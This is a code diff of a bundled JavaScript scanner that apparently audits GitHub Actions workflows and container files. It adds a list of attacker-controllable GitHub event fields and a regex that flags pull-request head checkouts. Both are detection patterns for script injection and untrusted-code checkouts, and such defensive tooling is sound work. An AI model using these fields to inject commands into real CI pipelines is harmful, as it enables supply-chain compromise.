                   const err17 = { instancePath: instancePath + "/build/args/" + key5.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -48526,7 +47346,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
           const _errs50 = errors;
           if (data15 && typeof data15 == "object" && !Array.isArray(data15)) {
             for (const key6 in data15) {
-              if (!pattern74.test(key6)) {
+              if (!pattern72.test(key6)) {
                 const err23 = { instancePath: instancePath + "/build/ssh", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key6 }, message: "must NOT have additional properties" };
                 if (vErrors === null) {
                   vErrors = [err23];
@@ -48537,7 +47357,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
               }
             }
             for (const key7 in data15) {
-              if (pattern74.test(key7)) {
+              if (pattern72.test(key7)) {
                 let data16 = data15[key7];
                 if (typeof data16 !== "string" && !(typeof data16 == "number") && typeof data16 !== "boolean" && data16 !== null) {
                   const err24 = { instancePath: instancePath + "/build/ssh/" + key7.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -48647,7 +47467,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
           const _errs62 = errors;
           if (data18 && typeof data18 == "object" && !Array.isArray(data18)) {
             for (const key8 in data18) {
-              if (!pattern74.test(key8)) {
+              if (!pattern72.test(key8)) {
                 const err30 = { instancePath: instancePath + "/build/labels", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key8 }, message: "must NOT have additional properties" };
                 if (vErrors === null) {
                   vErrors = [err30];
@@ -48658,7 +47478,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
               }
             }
             for (const key9 in data18) {
-              if (pattern74.test(key9)) {
+              if (pattern72.test(key9)) {
                 let data19 = data18[key9];
                 if (typeof data19 !== "string" && !(typeof data19 == "number") && typeof data19 !== "boolean" && data19 !== null) {
                   const err31 = { instancePath: instancePath + "/build/labels/" + key9.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -48830,7 +47650,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
           const _errs84 = errors;
           if (data26 && typeof data26 == "object" && !Array.isArray(data26)) {
             for (const key10 in data26) {
-              if (!pattern74.test(key10)) {
+              if (!pattern72.test(key10)) {
                 const err42 = { instancePath: instancePath + "/build/additional_contexts", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key10 }, message: "must NOT have additional properties" };
                 if (vErrors === null) {
                   vErrors = [err42];
@@ -48841,7 +47661,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
               }
             }
             for (const key11 in data26) {
-              if (pattern74.test(key11)) {
+              if (pattern72.test(key11)) {
                 let data27 = data26[key11];
                 if (typeof data27 !== "string" && !(typeof data27 == "number") && typeof data27 !== "boolean" && data27 !== null) {
                   const err43 = { instancePath: instancePath + "/build/additional_contexts/" + key11.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -48997,7 +47817,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
           const _errs104 = errors;
           if (data33 && typeof data33 == "object" && !Array.isArray(data33)) {
             for (const key12 in data33) {
-              if (!pattern74.test(key12)) {
+              if (!pattern72.test(key12)) {
                 const err53 = { instancePath: instancePath + "/build/extra_hosts", schemaPath: "#/definitions/extra_hosts/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key12 }, message: "must NOT have additional properties" };
                 if (vErrors === null) {
                   vErrors = [err53];
@@ -49008,7 +47828,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
               }
             }
             for (const key13 in data33) {
-              if (pattern74.test(key13)) {
+              if (pattern72.test(key13)) {
                 let data34 = data33[key13];
                 const _errs108 = errors;
                 let valid42 = false;
@@ -51342,7 +50162,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
       const _errs390 = errors;
       if (data132 && typeof data132 == "object" && !Array.isArray(data132)) {
         for (const key30 in data132) {
-          if (!pattern74.test(key30)) {
+          if (!pattern72.test(key30)) {
             const err214 = { instancePath: instancePath + "/environment", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key30 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err214];
@@ -51353,7 +50173,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
           }
         }
         for (const key31 in data132) {
-          if (pattern74.test(key31)) {
+          if (pattern72.test(key31)) {
             let data133 = data132[key31];
             if (typeof data133 !== "string" && !(typeof data133 == "number") && typeof data133 !== "boolean" && data133 !== null) {
               const err215 = { instancePath: instancePath + "/environment/" + key31.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -51797,7 +50617,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
       const _errs436 = errors;
       if (data147 && typeof data147 == "object" && !Array.isArray(data147)) {
         for (const key35 in data147) {
-          if (!pattern74.test(key35)) {
+          if (!pattern72.test(key35)) {
             const err243 = { instancePath: instancePath + "/extra_hosts", schemaPath: "#/definitions/extra_hosts/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key35 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err243];
@@ -51808,7 +50628,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
           }
         }
         for (const key36 in data147) {
-          if (pattern74.test(key36)) {
+          if (pattern72.test(key36)) {
             let data148 = data147[key36];
             const _errs440 = errors;
             let valid154 = false;
@@ -52256,7 +51076,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
       const _errs493 = errors;
       if (data168 && typeof data168 == "object" && !Array.isArray(data168)) {
         for (const key38 in data168) {
-          if (!pattern74.test(key38)) {
+          if (!pattern72.test(key38)) {
             const err273 = { instancePath: instancePath + "/labels", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key38 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err273];
@@ -52267,7 +51087,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
           }
         }
         for (const key39 in data168) {
-          if (pattern74.test(key39)) {
+          if (pattern72.test(key39)) {
             let data169 = data168[key39];
             if (typeof data169 !== "string" && !(typeof data169 == "number") && typeof data169 !== "boolean" && data169 !== null) {
               const err274 = { instancePath: instancePath + "/labels/" + key39.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -53778,7 +52598,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
       const _errs679 = errors;
       if (data240 && typeof data240 == "object" && !Array.isArray(data240)) {
         for (const key50 in data240) {
-          if (!pattern74.test(key50)) {
+          if (!pattern72.test(key50)) {
             const err377 = { instancePath: instancePath + "/sysctls", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key50 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err377];
@@ -53789,7 +52609,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
           }
         }
         for (const key51 in data240) {
-          if (pattern74.test(key51)) {
+          if (pattern72.test(key51)) {
             let data241 = data240[key51];
             if (typeof data241 !== "string" && !(typeof data241 == "number") && typeof data241 !== "boolean" && data241 !== null) {
               const err378 = { instancePath: instancePath + "/sysctls/" + key51.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -54350,7 +53170,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
                   const _errs757 = errors;
                   if (data270 && typeof data270 == "object" && !Array.isArray(data270)) {
                     for (const key57 in data270) {
-                      if (!pattern74.test(key57)) {
+                      if (!pattern72.test(key57)) {
                         const err420 = { instancePath: instancePath + "/volumes/" + i76 + "/volume/labels", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key57 }, message: "must NOT have additional properties" };
                         if (vErrors === null) {
                           vErrors = [err420];
@@ -54361,7 +53181,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
                       }
                     }
                     for (const key58 in data270) {
-                      if (pattern74.test(key58)) {
+                      if (pattern72.test(key58)) {
                         let data271 = data270[key58];
                         if (typeof data271 !== "string" && !(typeof data271 == "number") && typeof data271 !== "boolean" && data271 !== null) {
                           const err421 = { instancePath: instancePath + "/volumes/" + i76 + "/volume/labels/" + key58.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -55120,7 +53940,7 @@ function validate352(data, { instancePath = "", parentData, parentDataProperty, 
       const _errs52 = errors;
       if (data21 && typeof data21 == "object" && !Array.isArray(data21)) {
         for (const key9 in data21) {
-          if (!pattern74.test(key9)) {
+          if (!pattern72.test(key9)) {
             const err28 = { instancePath: instancePath + "/labels", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key9 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err28];
@@ -55131,7 +53951,7 @@ function validate352(data, { instancePath = "", parentData, parentDataProperty, 
           }
         }
         for (const key10 in data21) {
-          if (pattern74.test(key10)) {
+          if (pattern72.test(key10)) {
             let data22 = data21[key10];
             if (typeof data22 !== "string" && !(typeof data22 == "number") && typeof data22 !== "boolean" && data22 !== null) {
               const err29 = { instancePath: instancePath + "/labels/" + key10.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -55355,7 +54175,7 @@ function validate372(data, { instancePath = "", parentData, parentDataProperty, 
       const _errs18 = errors;
       if (data6 && typeof data6 == "object" && !Array.isArray(data6)) {
         for (const key3 in data6) {
-          if (!pattern74.test(key3)) {
+          if (!pattern72.test(key3)) {
             const err9 = { instancePath: instancePath + "/labels", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key3 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err9];
@@ -55366,7 +54186,7 @@ function validate372(data, { instancePath = "", parentData, parentDataProperty, 
           }
         }
         for (const key4 in data6) {
-          if (pattern74.test(key4)) {
+          if (pattern72.test(key4)) {
             let data7 = data6[key4];
             if (typeof data7 !== "string" && !(typeof data7 == "number") && typeof data7 !== "boolean" && data7 !== null) {
               const err10 = { instancePath: instancePath + "/labels/" + key4.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -55554,7 +54374,7 @@ function validate392(data, { instancePath = "", parentData, parentDataProperty, 
       const _errs15 = errors;
       if (data5 && typeof data5 == "object" && !Array.isArray(data5)) {
         for (const key1 in data5) {
-          if (!pattern74.test(key1)) {
+          if (!pattern72.test(key1)) {
             const err6 = { instancePath: instancePath + "/labels", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key1 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err6];
@@ -55565,7 +54385,7 @@ function validate392(data, { instancePath = "", parentData, parentDataProperty, 
           }
         }
         for (const key2 in data5) {
-          if (pattern74.test(key2)) {
+          if (pattern72.test(key2)) {
             let data6 = data5[key2];
             if (typeof data6 !== "string" && !(typeof data6 == "number") && typeof data6 !== "boolean" && data6 !== null) {
               const err7 = { instancePath: instancePath + "/labels/" + key2.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -55821,7 +54641,7 @@ function validate412(data, { instancePath = "", parentData, parentDataProperty, 
       const _errs17 = errors;
       if (data6 && typeof data6 == "object" && !Array.isArray(data6)) {
         for (const key1 in data6) {
-          if (!pattern74.test(key1)) {
+          if (!pattern72.test(key1)) {
             const err7 = { instancePath: instancePath + "/labels", schemaPath: "#/definitions/list_or_dict/oneOf/0/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key1 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err7];
@@ -55832,7 +54652,7 @@ function validate412(data, { instancePath = "", parentData, parentDataProperty, 
           }
         }
         for (const key2 in data6) {
-          if (pattern74.test(key2)) {
+          if (pattern72.test(key2)) {
             let data7 = data6[key2];
             if (typeof data7 !== "string" && !(typeof data7 == "number") && typeof data7 !== "boolean" && data7 !== null) {
               const err8 = { instancePath: instancePath + "/labels/" + key2.replace(/~/g, "~0").replace(/\//g, "~1"), schemaPath: "#/definitions/list_or_dict/oneOf/0/patternProperties/.%2B/type", keyword: "type", params: { type: schema19.oneOf[0].patternProperties[".+"].type }, message: "must be string,number,boolean,null" };
@@ -56894,9 +55714,9 @@ function wordOffset(script, segment, skip, literal, protect) {
 var SHELLS = /* @__PURE__ */ new Set(["sh", "bash", "ash", "dash", "zsh", "ksh", "mksh"]);
 function runCommands(model, instruction) {
   const firstLine = model.lines.linePos(instruction.start).line;
-  const lineOf3 = (offset) => model.lines.linePos(offset).line - firstLine;
+  const lineOf2 = (offset) => model.lines.linePos(offset).line - firstLine;
   const at = (command, map) => {
-    const run2 = { name: command.name, args: command.args, sudo: command.sudo, line: lineOf3(map(command.offset)) };
+    const run2 = { name: command.name, args: command.args, sudo: command.sudo, line: lineOf2(map(command.offset)) };
     if (command.pipedTo !== void 0) run2.pipedTo = command.pipedTo;
     if (command.env !== void 0) run2.env = command.env;
     return run2;
@@ -57454,10 +56274,9 @@ function workflowEmitter(document) {
   let lines;
   return {
     document,
-    emit(type, name, pointer, value, anchors, evidence) {
+    emit(type, name, pointer, value, anchors) {
       const subject = { type, name, document, pointer, value };
       if (anchors?.length) subject.anchors = anchors;
-      if (evidence?.length) subject.evidence = evidence;
       document.subjects.push(subject);
     },
     lines() {
@@ -58039,7 +56858,7 @@ function parseActionRef(uses, isWorkflow) {
   const text3 = uses.trim();
   const base = { uses: text3, isSha: false, isLocal: false, isDocker: false, isWorkflow };
   if (text3.startsWith("docker://")) return { ...base, isDocker: true };
-  if (text3.startsWith("./") || text3.startsWith(".\\") || text3.startsWith("$/")) {
+  if (text3.startsWith("./") || text3.startsWith(".\\")) {
     const path = text3.slice(2);
     return { ...base, isLocal: true, ...path ? { path } : {} };
   }
@@ -58055,6 +56874,74 @@ function parseActionRef(uses, isWorkflow) {
     ...ref ? { ref } : {},
     isSha: ref !== void 0 && SHA.test(ref)
   };
+}
+
+// src/subjects/workflow-expressions.ts
+var UNTRUSTED = [
+  "github.head_ref",
+  "github.event.issue.title",
+  "github.event.issue.body",
+  "github.event.pull_request.title",
+  "github.event.pull_request.body",
+  "github.event.pull_request.head.ref",
+  "github.event.pull_request.head.label",
+  "github.event.pull_request.head.repo.default_branch",
+  "github.event.pull_request.head.repo.description",
+  "github.event.pull_request.head.repo.homepage",
+  "github.event.comment.body",
+  "github.event.review.body",
+  "github.event.review_comment.body",
+  "github.event.discussion.title",
+  "github.event.discussion.body",
+  "github.event.pages.*.page_name",
+  "github.event.commits.*.message",
+  "github.event.commits.*.author.email",
+  "github.event.commits.*.author.name",
+  "github.event.commits.*.committer.email",
+  "github.event.commits.*.committer.name",
+  "github.event.head_commit.message",
+  "github.event.head_commit.author.email",
+  "github.event.head_commit.author.name",
+  "github.event.head_commit.committer.email",
+  "github.event.head_commit.committer.name",
+  "github.event.workflow_run.display_title",
+  "github.event.workflow_run.head_branch",
+  "github.event.workflow_run.head_commit.message",
+  "github.event.workflow_run.head_commit.author.email",
+  "github.event.workflow_run.head_commit.author.name",
+  "github.event.workflow_run.head_repository.description",
+  "github.event.workflow_run.pull_requests.*.head.ref",
+  "github.event.check_suite.head_branch",
+  "github.event.check_run.check_suite.head_branch",
+  "github.event.merge_group.head_commit.message",
+  "github.event.release.name",
+  "github.event.release.body"
+].map((pattern) => pattern.split("."));
+var REFERENCE = /(?<![\w.-])github(?![\w-])(?:\s*\.\s*[A-Za-z_][\w-]*|\s*\.\s*\*|\s*\[[^\]]*\])*/g;
+function untrustedExpressions(text3) {
+  const found = [];
+  for (const span of expressionSpans(text3)) {
+    const expression = text3.slice(span.start, span.end).replace(/\[\s*'([\w-]+)'\s*\]/g, ".$1").replace(/'(?:[^']|'')*'/g, "''");
+    for (const match of expression.matchAll(REFERENCE)) {
+      const path = normalize(match[0]);
+      if (isUntrusted(path.split(".")) && !found.includes(path)) found.push(path);
+    }
+  }
+  return found;
+}
+function normalize(reference) {
+  return reference.replace(/\s+/g, "").replace(/\[[^\]]*\]/g, ".*").replace(/\.\d+(?=\.|$)/g, ".*");
+}
+function isUntrusted(segments) {
+  return UNTRUSTED.some((pattern) => {
+    const shared2 = Math.min(pattern.length, segments.length);
+    for (let i = 0; i < shared2; i++) if (pattern[i] !== "*" && segments[i] !== "*" && pattern[i] !== segments[i]) return false;
+    return true;
+  });
+}
+var PR_HEAD = /github\.event\.pull_request\.(?:head\.(?:sha|ref|repo\.full_name)|merge_commit_sha)|github\.head_ref|github\.event\.workflow_run\.(?:head_sha|head_branch|head_repository\.full_name)|refs\/pull\/|\bpull\/[^/\s]+\/(?:head|merge)/;
+function namesPrHead(text3) {
+  return PR_HEAD.test(text3);
 }
 
 // src/subjects/workflow-paths.ts
@@ -58246,1484 +57133,6 @@ function compose(argv, globalFlags) {
   return { subcommand: "compose", globalFlags, flags, composeCommand: command };
 }
 
-// src/documents/workflow-checkouts.ts
-var MAX_COMMANDS = 200;
-var MAX_COMMAND_LENGTH = 300;
-var CONTAINER_TOOLS = /* @__PURE__ */ new Set(["docker", "docker-compose", "podman", "buildah", "nerdctl"]);
-function readScript(script, posix6, cwd) {
-  const reading = { commands: [], buildContexts: [], runsDocker: false };
-  if (!posix6) {
-    reading.commands = script.split("\n").map((line) => line.trim()).filter((line) => line !== "" && !line.startsWith("#"));
-    reading.runsDocker = reading.commands.some((line) => CONTAINER_TOOLS.has(line.split(/\s+/)[0].toLowerCase()));
-  } else {
-    let dir = cwd;
-    for (const command of splitShellCommands(script)) {
-      const program = command.name.slice(command.name.lastIndexOf("/") + 1);
-      reading.commands.push([command.name, ...command.args].join(" "));
-      if (program === "cd" || program === "pushd") dir = changeDirectory(dir, command.args);
-      if (!CONTAINER_TOOLS.has(program)) continue;
-      reading.runsDocker = true;
-      const context = buildContext(program, command.args);
-      if (context !== void 0 && !/^[\w+-]+:\/\/|^git@/.test(context) && context !== "-") {
-        const path = workspacePath(dir, context);
-        if (!reading.buildContexts.includes(path)) reading.buildContexts.push(path);
-      }
-    }
-  }
-  reading.commands = reading.commands.slice(0, MAX_COMMANDS).map((command) => command.slice(0, MAX_COMMAND_LENGTH));
-  return reading;
-}
-function buildContext(program, args) {
-  const verb = program === "buildah" ? args.findIndex((arg) => arg === "bud" || arg === "build") : -1;
-  const docker = readDockerCommand("docker", program === "buildah" ? verb < 0 ? [] : ["build", ...args.slice(verb + 1)] : args);
-  return docker?.subcommand === "build" ? docker.context : void 0;
-}
-function changeDirectory(cwd, args) {
-  const target = args.find((arg) => !/^-[LPe@]+$/.test(arg) && arg !== "--");
-  if (target === void 0 || target === "-" || target.startsWith("~")) return "$UNKNOWN_DIRECTORY";
-  return workspacePath(cwd, target);
-}
-var GIT_CHECKOUTS = /* @__PURE__ */ new Set(["fetch", "checkout", "switch", "pull", "reset", "clone", "worktree"]);
-function checkedOutRefs(uses, inputs, commands) {
-  const refs = [];
-  if (uses !== void 0 && uses.split("@")[0].trim().toLowerCase() === "actions/checkout") {
-    for (const input of ["ref", "repository"]) {
-      const value = inputs[input]?.trim();
-      if (value) refs.push(normalizeExpressions(value));
-    }
-  }
-  for (const command of commands) {
-    const [program, ...args] = command.split(" ");
-    if (program === "gh" && args[0] === "pr" && args[1] === "checkout") refs.push(normalizeExpressions(`refs/pull/${args.slice(2).filter((arg) => !arg.startsWith("-")).join(" ")}/head`));
-    else if (program === "git") {
-      const verb = args.slice(0, 4).findIndex((arg) => GIT_CHECKOUTS.has(arg));
-      if (verb >= 0) refs.push(normalizeExpressions(args.slice(verb + 1).join(" ")));
-    }
-  }
-  return refs;
-}
-function normalizeExpressions(text3) {
-  return text3.replace(/\$\{\{[^}]*\}\}/g, (expression) => expression.replace(/\[\s*'([\w-]+)'\s*\]/g, ".$1").replace(/\s+/g, ""));
-}
-
-// node_modules/@actions/expressions/dist/ast.js
-var Expr = class {
-};
-var Literal = class extends Expr {
-  constructor(literal, token) {
-    super();
-    this.literal = literal;
-    this.token = token;
-  }
-  accept(v) {
-    return v.visitLiteral(this);
-  }
-};
-var Unary = class extends Expr {
-  constructor(operator, expr) {
-    super();
-    this.operator = operator;
-    this.expr = expr;
-  }
-  accept(v) {
-    return v.visitUnary(this);
-  }
-};
-var FunctionCall = class extends Expr {
-  constructor(functionName, args) {
-    super();
-    this.functionName = functionName;
-    this.args = args;
-  }
-  accept(v) {
-    return v.visitFunctionCall(this);
-  }
-};
-var Binary = class extends Expr {
-  constructor(left, operator, right) {
-    super();
-    this.left = left;
-    this.operator = operator;
-    this.right = right;
-  }
-  accept(v) {
-    return v.visitBinary(this);
-  }
-};
-var Logical = class extends Expr {
-  constructor(operator, args) {
-    super();
-    this.operator = operator;
-    this.args = args;
-  }
-  accept(v) {
-    return v.visitLogical(this);
-  }
-};
-var Grouping = class extends Expr {
-  constructor(group) {
-    super();
-    this.group = group;
-  }
-  accept(v) {
-    return v.visitGrouping(this);
-  }
-};
-var ContextAccess = class extends Expr {
-  constructor(name) {
-    super();
-    this.name = name;
-  }
-  accept(v) {
-    return v.visitContextAccess(this);
-  }
-};
-var IndexAccess = class extends Expr {
-  constructor(expr, index) {
-    super();
-    this.expr = expr;
-    this.index = index;
-  }
-  accept(v) {
-    return v.visitIndexAccess(this);
-  }
-};
-var Star = class extends Expr {
-  accept() {
-    throw new Error("Method not implemented.");
-  }
-};
-
-// node_modules/@actions/expressions/dist/data/expressiondata.js
-var Kind;
-(function(Kind2) {
-  Kind2[Kind2["String"] = 0] = "String";
-  Kind2[Kind2["Array"] = 1] = "Array";
-  Kind2[Kind2["Dictionary"] = 2] = "Dictionary";
-  Kind2[Kind2["Boolean"] = 3] = "Boolean";
-  Kind2[Kind2["Number"] = 4] = "Number";
-  Kind2[Kind2["CaseSensitiveDictionary"] = 5] = "CaseSensitiveDictionary";
-  Kind2[Kind2["Null"] = 6] = "Null";
-})(Kind || (Kind = {}));
-function kindStr(k) {
-  switch (k) {
-    case Kind.Array:
-      return "Array";
-    case Kind.Boolean:
-      return "Boolean";
-    case Kind.Null:
-      return "Null";
-    case Kind.Number:
-      return "Number";
-    case Kind.Dictionary:
-      return "Object";
-    case Kind.String:
-      return "String";
-  }
-  return "unknown";
-}
-
-// node_modules/@actions/expressions/dist/data/dictionary.js
-var Dictionary = class {
-  constructor(...pairs) {
-    this.keys = [];
-    this.v = [];
-    this.indexMap = {};
-    this.kind = Kind.Dictionary;
-    this.primitive = false;
-    for (const p of pairs) {
-      this.add(p.key, p.value);
-    }
-  }
-  coerceString() {
-    return kindStr(this.kind);
-  }
-  number() {
-    return NaN;
-  }
-  add(key, value) {
-    if (key.toLowerCase() in this.indexMap) {
-      return;
-    }
-    this.keys.push(key);
-    this.v.push(value);
-    this.indexMap[key.toLowerCase()] = this.v.length - 1;
-  }
-  get(key) {
-    const index = this.indexMap[key.toLowerCase()];
-    if (index === void 0) {
-      return void 0;
-    }
-    return this.v[index];
-  }
-  values() {
-    return this.v;
-  }
-  pairs() {
-    const result = [];
-    for (const key of this.keys) {
-      result.push({ key, value: this.v[this.indexMap[key.toLowerCase()]] });
-    }
-    return result;
-  }
-};
-
-// node_modules/@actions/expressions/dist/data/array.js
-var Array2 = class {
-  constructor(...data) {
-    this.v = [];
-    this.kind = Kind.Array;
-    this.primitive = false;
-    for (const d of data) {
-      this.add(d);
-    }
-  }
-  coerceString() {
-    return kindStr(this.kind);
-  }
-  number() {
-    return NaN;
-  }
-  add(value) {
-    this.v.push(value);
-  }
-  get(index) {
-    return this.v[index];
-  }
-  values() {
-    return this.v;
-  }
-};
-
-// node_modules/@actions/expressions/dist/data/boolean.js
-var BooleanData = class {
-  constructor(value) {
-    this.value = value;
-    this.kind = Kind.Boolean;
-    this.primitive = true;
-  }
-  coerceString() {
-    if (this.value) {
-      return "true";
-    }
-    return "false";
-  }
-  number() {
-    if (this.value) {
-      return 1;
-    }
-    return 0;
-  }
-};
-
-// node_modules/@actions/expressions/dist/data/null.js
-var Null = class {
-  constructor() {
-    this.kind = Kind.Null;
-    this.primitive = true;
-  }
-  coerceString() {
-    return "";
-  }
-  number() {
-    return 0;
-  }
-};
-
-// node_modules/@actions/expressions/dist/data/number.js
-var NumberData = class {
-  constructor(value) {
-    this.value = value;
-    this.kind = Kind.Number;
-    this.primitive = true;
-  }
-  coerceString() {
-    if (this.value === 0) {
-      return "0";
-    }
-    return (+this.value.toFixed(15)).toString();
-  }
-  number() {
-    return this.value;
-  }
-};
-
-// node_modules/@actions/expressions/dist/data/string.js
-var StringData = class {
-  constructor(value) {
-    this.value = value;
-    this.kind = Kind.String;
-    this.primitive = true;
-  }
-  coerceString() {
-    return this.value;
-  }
-  number() {
-    return Number(this.value);
-  }
-};
-
-// node_modules/@actions/expressions/dist/data/replacer.js
-function replacer(_key, value) {
-  if (value instanceof Null) {
-    return null;
-  }
-  if (value instanceof BooleanData) {
-    return value.value;
-  }
-  if (value instanceof NumberData) {
-    return value.number();
-  }
-  if (value instanceof StringData) {
-    return value.coerceString();
-  }
-  if (value instanceof Array2) {
-    return value.values();
-  }
-  if (value instanceof Dictionary) {
-    const pairs = value.pairs();
-    const r = {};
-    for (const p of pairs) {
-      r[p.key] = p.value;
-    }
-    return r;
-  }
-  return value;
-}
-
-// node_modules/@actions/expressions/dist/data/reviver.js
-function reviver(_key, val) {
-  if (val === null) {
-    return new Null();
-  }
-  if (typeof val === "string") {
-    return new StringData(val);
-  }
-  if (typeof val === "number") {
-    return new NumberData(val);
-  }
-  if (typeof val === "boolean") {
-    return new BooleanData(val);
-  }
-  if (Array.isArray(val)) {
-    return new Array2(...val);
-  }
-  if (typeof val === "object") {
-    return new Dictionary(...Object.keys(val).map((k) => ({
-      key: k,
-      value: val[k]
-    })));
-  }
-  return val;
-}
-
-// node_modules/@actions/expressions/dist/lexer.js
-var TokenType;
-(function(TokenType2) {
-  TokenType2[TokenType2["UNKNOWN"] = 0] = "UNKNOWN";
-  TokenType2[TokenType2["LEFT_PAREN"] = 1] = "LEFT_PAREN";
-  TokenType2[TokenType2["RIGHT_PAREN"] = 2] = "RIGHT_PAREN";
-  TokenType2[TokenType2["LEFT_BRACKET"] = 3] = "LEFT_BRACKET";
-  TokenType2[TokenType2["RIGHT_BRACKET"] = 4] = "RIGHT_BRACKET";
-  TokenType2[TokenType2["COMMA"] = 5] = "COMMA";
-  TokenType2[TokenType2["DOT"] = 6] = "DOT";
-  TokenType2[TokenType2["BANG"] = 7] = "BANG";
-  TokenType2[TokenType2["BANG_EQUAL"] = 8] = "BANG_EQUAL";
-  TokenType2[TokenType2["EQUAL_EQUAL"] = 9] = "EQUAL_EQUAL";
-  TokenType2[TokenType2["GREATER"] = 10] = "GREATER";
-  TokenType2[TokenType2["GREATER_EQUAL"] = 11] = "GREATER_EQUAL";
-  TokenType2[TokenType2["LESS"] = 12] = "LESS";
-  TokenType2[TokenType2["LESS_EQUAL"] = 13] = "LESS_EQUAL";
-  TokenType2[TokenType2["AND"] = 14] = "AND";
-  TokenType2[TokenType2["OR"] = 15] = "OR";
-  TokenType2[TokenType2["STAR"] = 16] = "STAR";
-  TokenType2[TokenType2["NUMBER"] = 17] = "NUMBER";
-  TokenType2[TokenType2["STRING"] = 18] = "STRING";
-  TokenType2[TokenType2["IDENTIFIER"] = 19] = "IDENTIFIER";
-  TokenType2[TokenType2["TRUE"] = 20] = "TRUE";
-  TokenType2[TokenType2["FALSE"] = 21] = "FALSE";
-  TokenType2[TokenType2["NULL"] = 22] = "NULL";
